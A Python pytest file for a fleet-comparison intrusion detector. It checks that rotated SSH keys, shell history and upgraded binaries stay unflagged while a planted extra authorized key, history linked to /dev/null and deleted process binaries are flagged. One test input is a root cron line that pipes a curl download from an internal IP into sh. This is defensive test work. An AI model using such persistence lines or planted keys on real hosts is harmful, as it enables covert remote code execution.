"""A replacement is not an addition (analyze/generations.py), traces of use (TableSpec.appears_with_use),
binaries replaced under their process, and coincidental co-signatures in small groups (entries.py).

Each fleet has its benign twin and its attack twin: the benign shape must stay unflagged and the
attack shape, a row apart, must flag exactly its hosts, in both methods."""

from __future__ import annotations

import pytest
from runbuilder import clean_fleet, flagged_hosts, fleet_index

from diffy_analysis.analyze.entries import EntryModel

OLD_KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIOldOldOldOldOldOldOldOldOldOldOldOldOld"
NEW_KEY = "AAAAC3NzaC1lZDI1NTE5AAAAINewNewNewNewNewNewNewNewNewNewNewNewNew"
EVIL_KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIEvilEvilEvilEvilEvilEvilEvilEvilEvilEvi"
ROTATED = ("web-003", "web-006", "web-009", "web-012")


def _key(key: str, comment: str) -> dict[str, str]:
    return {
        "username": "admin",
        "uid": "1000",
        "algorithm": "ssh-ed25519",
        "key": key,
        "options": "",
        "comment": comment,
        "key_file": "/home/admin/.ssh/authorized_keys",
    }


def _keyed_fleet(*, rotated=ROTATED, intruded=()):
    """12 hosts whose default user holds the launch key pair; ``rotated`` hosts were launched after
    the key pair was rotated (the new key instead of the old); ``intruded`` hosts get an extra key."""
    hosts = clean_fleet(12)
    for name, rows in hosts.items():
        rows["authorized_keys"] = [
            _key(NEW_KEY, "fleet-2026-11") if name in rotated else _key(OLD_KEY, "fleet-2025-09")
        ]
        if name in intruded:
            rows["authorized_keys"].append(_key(EVIL_KEY, "deploy@ci-runner-07"))
    return hosts


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_rotated_key_pair_is_another_generation(tmp_path, method):
    assert flagged_hosts(tmp_path, _keyed_fleet(), method) == []


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_key_added_beside_the_launch_key_is_a_campaign(tmp_path, method):
    intruded = ("web-002", "web-005", "web-008")
    assert flagged_hosts(tmp_path, _keyed_fleet(intruded=intruded), method) == sorted(intruded)


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_key_added_on_rotated_hosts_is_still_an_addition(tmp_path, method):
    """The intruder's key sits on two of the rotated hosts, beside their new key: both flagged; the
    other rotated hosts, which hold only the new key, are not."""
    intruded = ("web-003", "web-006")
    assert flagged_hosts(tmp_path, _keyed_fleet(intruded=intruded), method) == sorted(intruded)


def test_generation_needs_the_usual_value_gone_from_every_holder():
    index = fleet_index(_keyed_fleet())
    model = EntryModel(index)
    new = next(f for f in range(index.n_features) if index.row(f).get("key") == NEW_KEY)
    old = next(f for f in range(index.n_features) if index.row(f).get("key") == OLD_KEY)
    described = model.generations.generation_of(new)
    assert described is not None and "instead of" in described and "4 hosts" in described
    assert model.generations.generation_of(old) is None  # the common generation replaced nothing
    # the same new key held BESIDE the old one on those hosts is an addition
    hosts = _keyed_fleet(rotated=())
    for name in ROTATED:
        hosts[name]["authorized_keys"].append(_key(NEW_KEY, "fleet-2026-11"))
    index = fleet_index(hosts)
    model = EntryModel(index)
    new = next(f for f in range(index.n_features) if index.row(f).get("key") == NEW_KEY)
    assert model.generations.generation_of(new) is None


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_lone_replaced_key_stays_evidence(tmp_path, method):
    """One host holding a key nobody else holds, instead of the launch key: novelty, not a generation
    (documented limit: a key file overwritten on one host decides)."""
    assert flagged_hosts(tmp_path, _keyed_fleet(rotated=("web-007",)), method) == ["web-007"]


def _file(path: str, *, symlink: str = "0", kind: str = "regular", empty: str = "0") -> dict[str, str]:
    return {
        "path": path,
        "type": kind,
        "symlink": symlink,
        "empty": empty,
        "mode": "0600",
        "uid": "0",
        "gid": "0",
        "size": "2048",
        "mtime": "1796219983",
    }


USED = ("web-002", "web-005", "web-008", "web-011")


def _collected_empty(hosts, *queries):
    """Every host ran ``queries`` and got no rows (the baseline too: a query the baseline did not
    run is not compared at all)."""
    for rows in hosts.values():
        for query in queries:
            rows[query] = []
    return hosts


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_history_and_mail_appearing_are_traces_of_use(tmp_path, method):
    """An admin's shell history and cron mail for root on a third of the fleet: traces of use."""
    hosts = _collected_empty(clean_fleet(12), "shell_history_files", "log_files")
    for name in USED:
        hosts[name]["shell_history_files"] = [_file("/root/.bash_history"), _file("/root/.viminfo")]
        hosts[name]["log_files"] = [_file("/var/mail/root")]
    assert flagged_hosts(tmp_path, hosts, method) == []


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_history_linked_away_is_evidence(tmp_path, method):
    """A history file that appears as a link (to /dev/null): history discarded, on one host."""
    hosts = _collected_empty(clean_fleet(12), "shell_history_files")
    for name in USED:
        hosts[name]["shell_history_files"] = [_file("/root/.bash_history")]
    hosts["web-007"]["shell_history_files"] = [_file("/root/.bash_history", symlink="1", kind="character")]
    assert flagged_hosts(tmp_path, hosts, method) == ["web-007"]


def _daemon(path: str, on_disk: str, sha256: str) -> tuple[dict[str, str], dict[str, str]]:
    process = {
        "pid": "400",
        "name": path.rsplit("/", 1)[-1],
        "path": path,
        "cmdline": f"{path} --interval 10",
        "cwd": "/",
        "uid": "0",
        "gid": "0",
        "euid": "0",
        "on_disk": on_disk,
        "parent": "1",
        "state": "S",
    }
    return process, {"path": path, "on_disk": on_disk, "sha256": sha256}


def _daemon_fleet(odd: tuple[str, ...], odd_sha: str):
    hosts = clean_fleet(12)
    for name, rows in hosts.items():
        on_disk, sha = ("0", odd_sha) if name in odd else ("1", "b" * 64)
        process, binary = _daemon("/usr/local/bin/healthd", on_disk, sha)
        rows["processes"] = [process]
        rows["process_binaries"] = [binary]
    return hosts


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_binary_upgraded_under_its_process_is_not_deleted(tmp_path, method):
    """on_disk 0 while a file (the new release, hashed) is at the path: replaced under the process."""
    hosts = _daemon_fleet(("web-004", "web-010", "web-011"), "c" * 64)
    assert flagged_hosts(tmp_path, hosts, method) == []


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_process_whose_binary_is_gone_is_evidence(tmp_path, method):
    hosts = _daemon_fleet(("web-004",), "")
    assert flagged_hosts(tmp_path, hosts, method) == ["web-004"]


def _package(name: str, version: str) -> dict[str, str]:
    return {"name": name, "version": version, "arch": "amd64", "source": "", "status": "install ok installed"}


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_two_hosts_sharing_an_agent_update_and_a_key_are_a_coincidence(tmp_path, method):
    """Six hosts; two got the agent's update and, by chance, the intruder's key: the update does not
    name the key, so it does not co-sign it."""
    hosts = _keyed_fleet(rotated=())
    hosts = {name: hosts[name] for name in sorted(hosts)[:6]}
    for rows in hosts.values():
        rows["deb_packages"].append(_package("amazon-ssm-agent", "3.3.987.0-1"))
    for name in ("web-002", "web-005"):
        hosts[name]["deb_packages"][-1] = _package("amazon-ssm-agent", "3.3.1142.0-1")
        hosts[name]["authorized_keys"].append(_key(EVIL_KEY, "deploy@ci-runner-07"))
    assert flagged_hosts(tmp_path, hosts, method) == ["web-002", "web-005"]


def test_an_upgrade_still_cosigns_the_file_it_names():
    """Two hosts got a newer sudo: their /usr/bin/sudo hash differs, and the row names the package."""
    hosts = clean_fleet(12)
    for rows in hosts.values():
        rows["deb_packages"].append(_package("sudo", "1.9.13p3-1"))
        rows["system_binaries"].append(
            dict(rows["system_binaries"][0], path="/usr/bin/sudo", sha256="d" * 64)
        )
    for name in ("web-004", "web-009"):
        hosts[name]["deb_packages"][-1] = _package("sudo", "1.9.15p5-1")
        hosts[name]["system_binaries"][-1]["sha256"] = "e" * 64
    index = fleet_index(hosts)
    model = EntryModel(index)
    fid = next(f for f in range(index.n_features) if index.row(f).get("sha256") == "e" * 64 and model.df[f])
    assert model.travels_with(fid) == "package sudo 1.9.15p5-1"


def _openssh_fleet(upgraded: tuple[str, ...]):
    """Six hosts with openssh 9.2; ``upgraded`` hosts got 9.2p1-2+deb12u5 (new ssh and sshd binaries)
    and, in the same run, a newer curl, which names neither binary."""
    hosts = _keyed_fleet(rotated=())
    hosts = {name: hosts[name] for name in sorted(hosts)[:6]}
    for name, rows in hosts.items():
        new = name in upgraded
        version = "1:9.2p1-2+deb12u5" if new else "1:9.2p1-2+deb12u3"
        curl = "7.68.0-1ubuntu2.20" if new else "7.68.0-1ubuntu2.18"  # upgraded in the same run
        rows["deb_packages"] += [_package("curl", curl), _package("libcurl4", curl)]
        rows["deb_packages"] += [_package("openssh-client", version), _package("openssh-server", version)]
        for path, old_sha, new_sha in (
            ("/usr/bin/ssh", "1" * 64, "2" * 64),
            ("/usr/sbin/sshd", "3" * 64, "4" * 64),
        ):
            rows["system_binaries"].append(
                dict(rows["system_binaries"][0], path=path, sha256=new_sha if new else old_sha)
            )
    return hosts


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_two_hosts_upgraded_openssh_have_new_ssh_binaries(tmp_path, method):
    """``/usr/bin/ssh`` and ``/usr/sbin/sshd`` name ``openssh-client`` / ``-server`` (dev generator
    fleet_12-s2: both were flagged when only whole words matched)."""
    assert flagged_hosts(tmp_path, _openssh_fleet(("web-003", "web-006")), method) == []


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_key_on_the_two_openssh_upgraded_hosts_is_no_part_of_the_upgrade(tmp_path, method):
    """The key file lives in ``~/.ssh``, yet a key is not what an openssh upgrade changes: only a row's
    subject (a binary's path) can name a package."""
    hosts = _openssh_fleet(("web-003", "web-006"))
    for name in ("web-003", "web-006"):
        hosts[name]["authorized_keys"].append(_key(EVIL_KEY, "deploy@ci-runner-07"))
    assert flagged_hosts(tmp_path, hosts, method) == ["web-003", "web-006"]


@pytest.mark.parametrize(
    ("package", "text", "named"),
    [
        ("openssh-server", "/usr/sbin/sshd", True),
        ("openssh-client", "/usr/bin/ssh", True),
        ("sudo", "/usr/bin/sudo", True),
        ("amazon-ssm-agent", "*/5 * * * * root curl -fsSL http://10.0.0.9/x | sh", False),
        ("amazon-ssm-agent", "/usr/bin/ssh", False),
        ("coreutils", "/usr/bin/" + "ad" * 20, False),  # hash-like words name nothing
    ],
)
def test_which_rows_name_a_package(package, text, named):
    from diffy_analysis.analyze.provenance import names

    assert names(package, text) is named
